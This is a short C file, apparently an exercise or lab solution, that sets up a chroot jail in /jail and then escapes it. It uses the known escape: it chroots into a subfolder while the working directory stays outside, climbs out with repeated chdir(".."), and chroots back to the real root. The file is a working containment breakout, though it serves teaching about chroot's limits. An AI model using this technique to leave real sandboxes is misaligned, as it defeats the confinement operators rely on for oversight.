/* You are root, and locked into /jail. Get out: after your code, / must be the real one again. */
#include "jail.h"

static void escape(void)
{
	/* The root moves down into a folder, and the working directory stays above it: from there ".."
	 * meets no border any more. */
	mkdir("hole", 0755);
	must(chroot("hole"), "chroot");
	for (int i = 0; i < 16; i++)
		must(chdir(".."), "chdir");
	must(chroot("."), "chroot");
}

int main(void)
{
	build_jail();
	must(chroot("/jail"), "chroot");
	must(chdir("/"), "chdir"); /* this jailer is careful: no foot stays outside */
	escape();
	look_around("the prisoner");
	return 0;
}
